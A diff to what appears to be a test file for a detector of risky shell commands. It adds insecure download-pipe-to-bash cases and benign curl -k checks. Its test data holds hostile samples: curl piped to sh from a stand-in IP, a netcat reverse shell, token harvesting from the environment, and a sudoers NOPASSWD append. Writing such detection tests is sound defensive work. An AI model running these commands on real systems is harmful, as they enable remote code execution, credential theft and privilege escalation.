@@ -113,6 +113,8 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['meshagent-install', 'windows', 'C:\\Users\\Public\\svc64.exe -fullinstall'],
   ['cloudflared-tunnel', 'windows', 'C:\\ProgramData\\cf.exe tunnel --no-autoupdate run --token eyJhIjoiMDAwIn0='],
   ['ip-download-pipe-shell', 'linux', 'curl -s http://198.51.100.23/i.sh | sh'],
+  ['insecure-download-pipe-shell', 'linux', 'if ! type quill; then curl -sLk $SRC/q/set/quill.sh | bash ; fi'],
+  ['insecure-download-pipe-shell', 'linux', 'wget --no-check-certificate -qO- https://quill.example/i.sh | sudo bash'],
   ['env-secrets-grep', 'linux', 'env | grep -i token > /tmp/.t'],
   ['netcat-shell', 'linux', 'nc -e /bin/sh 198.51.100.30 4444'],
   ['sudoers-nopasswd', 'linux', 'echo "svc ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'],
@@ -256,6 +258,8 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
 
   it.each([
     ['linux', 'curl -fsSL https://get.example.org/install.sh | sh'],
+    ['linux', 'curl -k https://10.0.0.5:8443/health'],
+    ['linux', 'curl -sk https://quill.example/status | grep -q ok'],
     ['linux', 'base64 -d cert.b64 | sha256sum'],
     ['linux', 'crontab -l'],
     ['linux', "echo '*/30 * * * * /usr/local/bin/backup' | crontab -"],
